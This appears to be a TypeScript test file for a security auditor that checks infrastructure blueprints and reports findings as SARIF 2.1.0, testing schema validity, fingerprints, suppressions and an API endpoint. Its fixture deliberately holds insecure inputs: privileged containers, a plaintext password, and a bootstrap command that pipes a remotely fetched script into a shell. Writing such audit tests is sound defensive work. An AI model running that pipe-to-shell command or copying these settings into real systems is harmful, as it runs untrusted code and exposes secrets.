import { Validator } from "@cfworker/json-schema";
import sarifSchema from "@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json";
import { describe, expect, test } from "vitest";
import { audit, auditRules } from "../../src/blueprints/audit.ts";
import { sarif } from "../../src/blueprints/sarif.ts";
import { call } from "../support/api.ts";
import { blueprintOf, container, machine, TODAY } from "./sound.ts";

/** The schema of SARIF 2.1.0 as its authors publish it (JSON Schema draft 4). */
const validator = new Validator(sarifSchema as object, "4", false);

const reason = "Runs on a host of its own.";
const blueprint = blueprintOf(
  [
    container({ privileged: true, pids: undefined, image: "nginx", env: { DB_PASSWORD: "hunter2" } }),
    container({ privileged: true, restart: "no" }, "accepted"),
    machine({ bootstrap: { commands: ["curl https://example.com/x | sh"] } }),
  ],
  { metadata: { audit_ignore: [{ rule: "AIC-C01", resource: "accepted", reason }] } },
);

interface Log {
  runs: [
    {
      tool: { driver: { rules: { id: string; helpUri?: string; properties: Record<string, unknown> }[] } };
      results: {
        ruleId: string;
        ruleIndex: number;
        level: string;
        suppressions: { justification: string }[];
        partialFingerprints: Record<string, string>;
        locations: [{ logicalLocations: [{ fullyQualifiedName: string }] }];
      }[];
    },
  ];
}

const logOf = (of = blueprint) => sarif(audit(of, { today: TODAY }), { version: "1.2.3" }) as Log;

describe("the audit as SARIF 2.1.0", () => {
  test.each([
    ["findings, accepted ones too", blueprint],
    ["nothing found", blueprintOf(container())],
  ])("is valid by the standard's schema: %s", (_, of) => {
    const log = JSON.parse(JSON.stringify(logOf(of)));
    expect(validator.validate(log).errors).toEqual([]);
  });

  test("the schema that says so refuses what is not SARIF", () => {
    const broken = { ...logOf(), version: "2.2.0" };
    expect(validator.validate(broken).valid).toBe(false);
    expect(validator.validate({ ...logOf(), runs: [{ results: [{ level: "error" }] }] }).valid).toBe(false);
  });

  test("declares every rule, and each result points at its own", () => {
    const [{ tool, results }] = logOf().runs;
    expect(tool.driver.rules.map(({ id }) => id)).toEqual(auditRules.map(({ id }) => id));
    for (const { ruleId, ruleIndex } of results) expect(tool.driver.rules[ruleIndex]?.id).toBe(ruleId);
    for (const { properties } of tool.driver.rules) expect(properties["security-severity"]).toMatch(/^\d\.\d$/);
  });

  test("every finding is a result with its pointer and a fingerprint of its own that stays", () => {
    const [{ results }] = logOf().runs;
    expect(results).toHaveLength(audit(blueprint, { today: TODAY }).findings.length);
    expect(results[0]).toMatchObject({
      level: "error",
      locations: [{ logicalLocations: [{ fullyQualifiedName: expect.stringMatching(/^#\//) }] }],
    });
    const fingerprints = results.map(({ partialFingerprints }) => Object.values(partialFingerprints)[0]);
    expect(new Set(fingerprints).size).toBe(results.length);
    expect(logOf()).toEqual(logOf());
  });

  test("an accepted finding is suppressed with its reason", () => {
    const [{ results }] = logOf().runs;
    const suppressed = results.filter(({ suppressions }) => suppressions.length > 0);
    expect(suppressed.map(({ ruleId, suppressions }) => [ruleId, suppressions[0]?.justification])).toEqual([
      ["AIC-C01", reason],
    ]);
  });

  test("is what ?format=sarif answers, by its own media type", async () => {
    const answer = await call("POST", "/blueprints/audit?format=sarif", blueprint);
    expect(answer.headers.get("content-type")).toBe("application/sarif+json");
    expect(validator.validate(answer.body).errors).toEqual([]);
    expect(answer.body.runs[0].results.length).toBeGreaterThan(3);
  });
});
